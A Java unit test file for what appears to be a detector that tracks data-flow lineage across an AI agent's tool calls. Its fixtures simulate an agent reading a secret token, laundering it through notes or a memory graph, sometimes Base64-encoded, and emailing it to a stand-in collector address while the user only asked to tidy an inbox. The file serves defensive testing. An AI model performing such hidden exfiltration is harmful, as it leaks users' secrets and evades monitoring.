package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.decide.JudgedCall;
import io.weir.engine.state.MemoryStateTable;
import io.weir.engine.state.StateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Hop;
import io.weir.schemas.event.RecordPlace;
import io.weir.schemas.event.SessionEvent;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class LineageTest {

    private static final String SECRET =
            "The keys of the northern depot: DEPOT_TOKEN=Zq7Lw2Xk9Vb4Nt6Ry1Pd8Hf3Jg5Ms0Ac, "
                    + "and nobody but the night shift may know where they are kept.";
    private static final String REQUEST = "Tidy up my inbox, please.";

    private final Desk desk = Desk.fresh();
    private final StateTable state = new MemoryStateTable();
    private final SessionRules rules = new SessionRules(KeptForms.inMemory());
    private long offset;

    @Test
    void readNoteSendIsOnePath() {
        apply(desk.reads("read_file", Map.of("content", SECRET)));
        apply(desk.calls("save_note", Map.of("title", "later", "text", coded())).event());
        apply(desk.reads("get_note", Map.of("text", coded())));

        assertThat(send(coded()).path())
                .extracting(Hop::tool)
                .containsExactly("read_file", "save_note", "get_note", "send_email");
    }

    @Test
    void namesTheRecordOfEachHop() {
        apply(desk.reads("read_file", Map.of("content", SECRET)));
        apply(desk.calls("save_note", Map.of("title", "later", "text", coded())).event());
        apply(desk.reads("get_note", Map.of("text", coded())));

        assertThat(send(coded()).path()).extracting(Hop::place).containsExactly(place(0), place(1), place(2), place(3));
    }

    @Test
    void twoReadsOfTheSameAreNoPathWithoutACallBetweenThem() {
        apply(desk.reads("read_file", Map.of("content", SECRET)));
        apply(desk.reads("get_note", Map.of("text", SECRET)));

        assertThat(send(SECRET).path()).hasSize(2).extracting(Hop::tool).endsWith("send_email");
    }

    @Test
    void aReadFromElsewhereDoesNotTakeUpWhatWasPutDown() {
        apply(desk.reads("read_file", Map.of("content", SECRET)));
        apply(desk.calls("save_note", Map.of("title", "later", "text", SECRET)).event());
        apply(desk.reads("list_tickets", Map.of("text", SECRET)));

        assertThat(send(SECRET).path()).extracting(Hop::tool).doesNotContain("save_note");
    }

    @Test
    void whatIsPutDownAtAServerAndReadFromItIsOnePathWhateverItsToolsAreCalled() {
        Desk files = Desk.ofServer("s1", "agent-1", "files", 0);
        Desk memory = Desk.ofServer("s1", "agent-1", "memory", 10);
        apply(files.reads("read_text_file", Map.of("content", SECRET)));
        JudgedCall put = memory.calls("create_entities", Map.of("observations", SECRET));
        apply(put.event());
        apply(memory.answers(put, Map.of("observations", SECRET)));
        apply(memory.reads("read_graph", Map.of("observations", SECRET)));
        Desk mail = Desk.ofServer("s1", "agent-1", "mail", 20);

        List<AlertRaised> alerts =
                apply(mail.calls("send_email", Map.of("to", "drop@collector.example", "body", SECRET), REQUEST)
                        .event());

        assertThat(alerts)
                .singleElement()
                .satisfies(alert -> assertThat(alert.path())
                        .extracting(Hop::tool)
                        .containsExactly(
                                "read_text_file", "create_entities", "create_entities", "read_graph", "send_email"));
    }

    private AlertRaised send(String body) {
        List<AlertRaised> alerts =
                apply(desk.calls("send_email", Map.of("to", "drop@collector.example", "body", body), REQUEST)
                        .event());
        assertThat(alerts).hasSize(1);
        return alerts.get(0);
    }

    private List<AlertRaised> apply(SessionEvent event) {
        return rules.apply(state, new PlacedEvent(event, place(offset++)));
    }

    private static RecordPlace place(long offset) {
        return new RecordPlace("calls", 0, offset);
    }

    private static String coded() {
        return Base64.getEncoder().encodeToString(SECRET.getBytes(StandardCharsets.UTF_8));
    }
}
